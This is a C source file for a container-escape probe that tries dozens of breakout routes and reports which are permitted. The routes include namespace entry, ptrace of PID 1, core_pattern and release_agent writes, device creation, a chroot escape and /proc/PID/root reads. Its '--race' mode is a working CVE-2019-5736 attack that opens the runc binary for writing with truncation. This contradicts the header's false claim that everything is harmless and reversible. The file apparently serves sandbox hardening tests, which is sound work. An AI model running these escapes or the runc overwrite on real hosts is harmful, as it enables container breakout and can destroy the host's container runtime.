/* A hostile program: tries what containers are escaped by, and says of each whether it was let through. As root of a machine most of
 * it works, and all of it is harmless: nothing is changed that is not changed back, and of what would do damage only the permission is
 * asked for.
 *
 * hostile PATH…    all attempts, and to read each of those files: "done" or "refused", a tab, what, a tab, why
 * hostile --race N tries N times to write over the container runtime while it comes in; what it saw and did */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <linux/perf_event.h>
#include <net/if.h>
#include <net/route.h>
#include <netinet/in.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/fanotify.h>
#include <sys/ioctl.h>
#include <sys/klog.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/reboot.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/swap.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <unistd.h>

#define FOLDER "/tmp/hostile"

/* An attempt returns 0 if it got what it wanted, else why not. */
static int told(long result) { return result < 0 ? errno : 0; }

/* The same, where these two errors come only after the permission was given. */
static int past(long result, int one, int other) {
    return result >= 0 || errno == one || errno == other ? 0 : errno;
}

static int opens(const char *path, int flags) {
    int fd = open(path, flags | O_CLOEXEC);
    if (fd >= 0) close(fd);
    return told(fd);
}

static int reads(const char *path) {
    char byte;
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0) return errno;
    ssize_t count = read(fd, &byte, 1);
    /* Nothing in it: something empty was put in its place. */
    return count > 0 ? 0 : count < 0 ? errno : ENODATA;
}

/* Mounts. */
static int mount_tmpfs(void) { return told(mount("tmpfs", FOLDER, "tmpfs", 0, NULL)); }
static int mount_bind(void) { return told(mount("/", FOLDER, NULL, MS_BIND, NULL)); }
static int mount_proc(void) { return told(mount("proc", FOLDER, "proc", 0, NULL)); }
static int mount_cgroup(void) {
    /* Where release_agent would be. */
    if (mount("cgroup", FOLDER, "cgroup", 0, "memory") == 0) return 0;
    return told(mount("cgroup2", FOLDER, "cgroup2", 0, NULL));
}
static int remount_sys(void) { return past(mount(NULL, "/proc/sys", NULL, MS_REMOUNT | MS_BIND, NULL), EINVAL, EINVAL); }
static int remount_root(void) { return told(mount(NULL, "/", NULL, MS_REC | MS_SHARED, NULL)); }
static int unmask(void) { return past(umount2("/proc/keys", MNT_DETACH), EINVAL, EINVAL); }
static int new_mount(void) { return told(syscall(SYS_fsopen, "tmpfs", 0)); }
static int clone_tree(void) { return told(syscall(SYS_open_tree, AT_FDCWD, "/", 1)); }
static int pivot(void) { return past(syscall(SYS_pivot_root, "/", "/"), EBUSY, EINVAL); }

/* Namespaces. */
static int unshare_mounts(void) { return told(unshare(CLONE_NEWNS)); }
static int unshare_users(void) {
    if (unshare(CLONE_NEWUSER | CLONE_NEWNS) < 0) return errno;
    return told(mount("tmpfs", FOLDER, "tmpfs", 0, NULL));
}
static int unshare_net(void) { return told(unshare(CLONE_NEWNET)); }
static int raw_clone(void) {
    long child = syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0);
    if (child == 0) _exit(0);
    return told(child);
}
static int raw_clone3(void) {
    uint64_t arguments[8] = {CLONE_NEWUSER, 0, 0, 0, SIGCHLD};
    long child = syscall(SYS_clone3, arguments, sizeof arguments);
    if (child == 0) _exit(0);
    return told(child);
}
static int enter(const char *path) {
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    return fd < 0 ? errno : told(setns(fd, 0));
}
static int enter_mounts(void) { return enter("/proc/1/ns/mnt"); }
static int enter_net(void) { return enter("/proc/1/ns/net"); }
static int enter_pidfd(void) {
    int fd = (int)syscall(SYS_pidfd_open, 1, 0);
    return fd < 0 ? errno : told(setns(fd, CLONE_NEWNS | CLONE_NEWNET));
}

/* Other processes. */
static int trace(void) { return told(ptrace(PTRACE_SEIZE, 1, NULL, NULL)); }
static int others_memory(void) {
    char byte;
    struct iovec here = {&byte, 1}, there = {(void *)1, 1};
    return past(process_vm_readv(1, &here, 1, &there, 1, 0), EFAULT, EFAULT);
}
static int others_files(void) {
    int fd = (int)syscall(SYS_pidfd_open, 1, 0);
    return fd < 0 ? errno : told(syscall(SYS_pidfd_getfd, fd, 0, 0));
}

/* The kernel and its interfaces. */
static int core_pattern(void) { return opens("/proc/sys/kernel/core_pattern", O_WRONLY); }
static int modprobe(void) { return opens("/proc/sys/kernel/modprobe", O_WRONLY); }
static int forwarding(void) { return opens("/proc/sys/net/ipv4/ip_forward", O_WRONLY); }
static int sysrq(void) { return opens("/proc/sysrq-trigger", O_WRONLY); }
static int kcore(void) { return reads("/proc/kcore"); }
static int keys(void) { return reads("/proc/keys"); }
static int disks(void) { return reads("/proc/diskstats"); }
static int others_disks(void) { return opens("/sys/block/loop0/size", O_RDONLY); }
static int sysfs_write(void) { return opens("/sys/class/net/lo/ifalias", O_WRONLY); }
static int uevent(void) { return opens("/sys/kernel/mm/transparent_hugepage/enabled", O_WRONLY); }
static int cgroup_files(void) {
    static const char *const files[] = {"/sys/fs/cgroup/cgroup.procs", "/sys/fs/cgroup/memory/cgroup.procs", "/sys/fs/cgroup/memory/release_agent"};
    int why = ENOENT;
    for (size_t i = 0; i < 3 && why; i++) why = opens(files[i], O_WRONLY);
    return why;
}
static int log_read(void) { char text[64]; return told(klogctl(3, text, sizeof text)); }
static int load_bpf(void) {
    union bpf_attr map = {.map_type = BPF_MAP_TYPE_ARRAY, .key_size = 4, .value_size = 4, .max_entries = 1};
    return told(syscall(SYS_bpf, BPF_MAP_CREATE, &map, sizeof map));
}
static int perf(void) {
    struct perf_event_attr event = {.type = PERF_TYPE_SOFTWARE, .size = sizeof event, .config = PERF_COUNT_SW_CPU_CLOCK};
    return told(syscall(SYS_perf_event_open, &event, -1, 0, -1, 0));
}
static int faults(void) { return told(syscall(SYS_userfaultfd, O_CLOEXEC)); }
static int uring(void) { char parameters[120] = {0}; return told(syscall(SYS_io_uring_setup, 1, parameters)); }
static int kexec(void) { return told(syscall(SYS_kexec_load, 0, 0, NULL, 0)); }
static int module(void) { return past(syscall(SYS_init_module, "", 0, ""), ENOEXEC, EFAULT); }
static int unload(void) { return past(syscall(SYS_delete_module, "no_such_module", O_NONBLOCK), ENOENT, ENOENT); }
static int boot(void) { return past(reboot(RB_DISABLE_CAD), EINVAL, EINVAL); }
static int swap_on(void) { return past(swapon(FOLDER "/none", 0), ENOENT, ENOENT); }
static int watch_files(void) { return told(fanotify_init(FAN_CLASS_CONTENT, O_RDONLY)); }
static int user_keyring(void) { return told(syscall(SYS_keyctl, 0, -4, 1)); }
static int new_key(void) { return told(syscall(SYS_add_key, "user", "hostile", "x", 1, -2)); }
static int overlay_mark(void) { return told(setxattr(FOLDER, "trusted.overlay.opaque", "y", 1, 0)); }

/* Devices. */
static int device(mode_t kind, int major, int minor) {
    if (mknod(FOLDER "/device", kind | 0600, makedev(major, minor)) < 0) return errno;
    return opens(FOLDER "/device", O_RDONLY);
}
static int make_disk(void) { return device(S_IFBLK, 7, 0); }
static int make_memory(void) { return device(S_IFCHR, 1, 1); }
static int open_disk(void) {
    static const char *const files[] = {"/dev/vda", "/dev/sda", "/dev/nvme0n1", "/dev/loop0", "/dev/loop-control"};
    int why = ENOENT;
    for (size_t i = 0; i < 5 && why; i++) why = opens(files[i], O_RDONLY);
    return why;
}
static int open_kmsg(void) { return opens("/dev/kmsg", O_WRONLY); }
static int open_fuse(void) { return opens("/dev/fuse", O_RDWR); }
static int open_tun(void) { return opens("/dev/net/tun", O_RDWR); }

/* Files outside. */
static int by_handle(void) {
    union { struct file_handle handle; char room[128]; } file = {.handle.handle_bytes = 100};
    int mount, from = open("/", O_RDONLY | O_CLOEXEC);
    if (name_to_handle_at(AT_FDCWD, "/", &file.handle, &mount, 0) < 0) {
        /* The root of an ext4: inode 2, generation 0. */
        memset(&file, 0, sizeof file);
        file.handle.handle_bytes = 8;
        file.handle.handle_type = 1;
        file.handle.f_handle[0] = 2;
    }
    return told(open_by_handle_at(from, &file.handle, O_RDONLY));
}
static const char *secret;
/* Out of a chroot by a descriptor that was opened before, and up to the root of everything. */
static int leave_chroot(void) {
    int root = open("/", O_RDONLY | O_CLOEXEC);
    if (chroot(FOLDER) < 0 || fchdir(root) < 0) return errno;
    for (int i = 0; i < 64; i++) if (chdir("..") < 0) return errno;
    if (chroot(".") < 0) return errno;
    return reads(secret);
}
static int by_proc_root(void) {
    char path[4096];
    int why = ENOENT;
    DIR *all = opendir("/proc");
    for (struct dirent *one; why && all && (one = readdir(all));) {
        if (atoi(one->d_name) <= 0) continue;
        snprintf(path, sizeof path, "/proc/%s/root%s", one->d_name, secret);
        why = reads(path);
    }
    return why;
}

/* The network. */
static int opens_socket(int family, int type, int protocol) { return told(socket(family, type, protocol)); }
static int raw4(void) { return opens_socket(AF_INET, SOCK_RAW, IPPROTO_ICMP); }
static int raw6(void) { return opens_socket(AF_INET6, SOCK_RAW, IPPROTO_ICMPV6); }
static int packets(void) { return opens_socket(AF_PACKET, SOCK_RAW, 0); }
static int firewall(void) { return opens_socket(AF_NETLINK, SOCK_RAW, 12); }
static int audit(void) { return opens_socket(AF_NETLINK, SOCK_RAW, 9); }
static int crypto(void) { return opens_socket(38, SOCK_SEQPACKET, 0); }
/* A family that a register with more bits than the kernel looks at should not hide. */
static int hidden_family(void) { return told(syscall(SYS_socket, 0x100000000L | AF_PACKET, SOCK_RAW, 0)); }
static int link_flags(void) {
    struct ifreq link = {.ifr_name = "lo"};
    int fd = socket(AF_INET, SOCK_DGRAM, 0);
    return ioctl(fd, SIOCGIFFLAGS, &link) < 0 ? errno : told(ioctl(fd, SIOCSIFFLAGS, &link));
}
static int address(void) {
    struct ifreq link = {.ifr_name = "lo:9"};
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(0x7f090909)};
    memcpy(&link.ifr_addr, &to, sizeof to);
    return told(ioctl(socket(AF_INET, SOCK_DGRAM, 0), SIOCSIFADDR, &link));
}
static int route(void) {
    struct rtentry entry = {.rt_flags = RTF_UP | RTF_REJECT};
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(0xcb007100)};
    memcpy(&entry.rt_dst, &to, sizeof to);
    to.sin_addr.s_addr = htonl(0xffffff00);
    memcpy(&entry.rt_genmask, &to, sizeof to);
    return told(ioctl(socket(AF_INET, SOCK_DGRAM, 0), SIOCADDRT, &entry));
}

/* More than it was given. */
static int capability(void) {
    /* DAC_READ_SEARCH, NET_ADMIN, NET_RAW, SYS_MODULE, SYS_RAWIO, SYS_PTRACE, SYS_ADMIN, SYS_BOOT, MKNOD, SETFCAP. */
    static const int all[] = {2, 12, 13, 16, 17, 19, 21, 22, 27, 31};
    for (size_t i = 0; i < 10; i++) if (prctl(PR_CAPBSET_READ, all[i], 0, 0, 0) == 1) return 0;
    return EPERM;
}
static int new_privileges(void) { return prctl(PR_GET_NO_NEW_PRIVS, 0, 0, 0, 0) == 0 ? 0 : EPERM; }
static int memory(void) {
    size_t size = 256 << 20;
    char *room = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    if (room == MAP_FAILED) return errno;
    for (size_t at = 0; at < size; at += 4096) room[at] = 1;
    return 0;
}
static int secret_file(void) { return reads(secret); }

static const struct { const char *what; int (*tries)(void); } attempts[] = {
    {"mount a tmpfs", mount_tmpfs}, {"bind-mount the root", mount_bind}, {"mount another /proc", mount_proc},
    {"mount control groups, for release_agent", mount_cgroup}, {"make /proc/sys writable", remount_sys},
    {"share mounts with the host", remount_root}, {"unmount a mask", unmask}, {"fsopen", new_mount}, {"open_tree", clone_tree},
    {"pivot_root", pivot}, {"unshare mounts", unshare_mounts}, {"unshare users and mount", unshare_users},
    {"unshare the network", unshare_net}, {"clone with new users", raw_clone}, {"clone3 with new users", raw_clone3},
    {"setns to the mounts of process 1", enter_mounts}, {"setns to the network of process 1", enter_net},
    {"setns by pidfd", enter_pidfd}, {"ptrace process 1", trace}, {"read the memory of process 1", others_memory},
    {"take a descriptor of process 1", others_files}, {"write core_pattern", core_pattern}, {"write modprobe", modprobe},
    {"write ip_forward", forwarding}, {"sysrq", sysrq}, {"read /proc/kcore", kcore}, {"read /proc/keys", keys},
    {"read /proc/diskstats", disks}, {"see others' disks in /sys", others_disks}, {"write /sys/class/net", sysfs_write},
    {"write /sys/kernel", uevent}, {"write control groups", cgroup_files}, {"read the kernel's log", log_read}, {"bpf", load_bpf},
    {"perf_event_open", perf}, {"userfaultfd", faults}, {"io_uring", uring}, {"kexec", kexec}, {"load a module", module},
    {"remove a module", unload}, {"reboot", boot}, {"swapon", swap_on}, {"fanotify", watch_files},
    {"find the user's keyring", user_keyring}, {"add a key", new_key}, {"mark a folder for overlayfs", overlay_mark},
    {"make and open a disk", make_disk}, {"make and open /dev/mem", make_memory}, {"open a disk", open_disk},
    {"write /dev/kmsg", open_kmsg}, {"open /dev/fuse", open_fuse}, {"open /dev/net/tun", open_tun},
    {"open_by_handle_at", by_handle}, {"a raw socket", raw4}, {"a raw IPv6 socket", raw6}, {"a packet socket", packets},
    {"a packet socket with more bits", hidden_family}, {"a netfilter socket", firewall}, {"an audit socket", audit},
    {"a crypto socket", crypto}, {"set a link's flags", link_flags}, {"add an address", address}, {"add a route", route},
    {"have a dangerous capability", capability}, {"gain privileges by exec", new_privileges},
    {"use four times the memory given", memory},
};

static const struct { const char *what; int (*tries)(void); } on_files[] = {
    {"read", secret_file}, {"leave a chroot and read", leave_chroot}, {"read by /proc/PID/root", by_proc_root},
};

/* Each in a process of its own, in a folder of its own, for 10 s at most. */
static void tries(const char *what, const char *file, int (*attempt)(void)) {
    int status = 0;
    mkdir(FOLDER, 0700);
    pid_t child = fork();
    if (child == 0) {
        alarm(10);
        _exit(attempt());
    }
    waitpid(child, &status, 0);
    while (umount2(FOLDER, MNT_DETACH) == 0) {}
    unlink(FOLDER "/device");
    rmdir(FOLDER);
    if (WIFSIGNALED(status)) printf("refused\t%s%s\tkilled: %s\n", what, file, strsignal(WTERMSIG(status)));
    else if (WEXITSTATUS(status)) printf("refused\t%s%s\t%s\n", what, file, strerror(WEXITSTATUS(status)));
    else printf("done\t%s%s\tlet through\n", what, file);
    fflush(stdout);
}

/* CVE-2019-5736: the runtime's own program, open for reading while it is in the container, is opened for writing when it has left. */
static int race(int times) {
    int seen = 0, opened = 0, written = 0;
    char path[300], name[64];
    alarm(60);
    for (int last = 0; seen < times;) {
        DIR *all = opendir("/proc");
        for (struct dirent *one; all && (one = readdir(all));) {
            int pid = atoi(one->d_name);
            snprintf(path, sizeof path, "/proc/%s/comm", one->d_name);
            int comm = pid > 0 && pid != last ? open(path, O_RDONLY) : -1;
            ssize_t count = comm < 0 ? -1 : read(comm, name, sizeof name);
            if (comm >= 0) close(comm);
            if (count < 4 || memcmp(name, "runc", 4) != 0) continue;
            if (pid != last) seen++;
            last = pid;
            snprintf(path, sizeof path, "/proc/%d/exe", pid);
            int exe = open(path, O_RDONLY);
            if (exe < 0) continue;
            opened++;
            snprintf(path, sizeof path, "/proc/self/fd/%d", exe);
            for (int i = 0; i < 20000; i++) {
                int fd = open(path, O_WRONLY | O_TRUNC);
                if (fd >= 0) { written++; break; }
                if (errno != ETXTBSY) break;
            }
            close(exe);
        }
        if (all) closedir(all);
    }
    printf("seen %d, opened %d, written %d\n", seen, opened, written);
    return written != 0;
}

int main(int count, char **words) {
    if (count == 3 && strcmp(words[1], "--race") == 0) return race(atoi(words[2]));
    for (size_t i = 0; i < sizeof attempts / sizeof *attempts; i++) tries(attempts[i].what, "", attempts[i].tries);
    for (int word = 1; word < count; word++) {
        char file[4200];
        secret = words[word];
        snprintf(file, sizeof file, " %s", secret);
        for (size_t i = 0; i < sizeof on_files / sizeof *on_files; i++) tries(on_files[i].what, file, on_files[i].tries);
    }
    return 0;
}
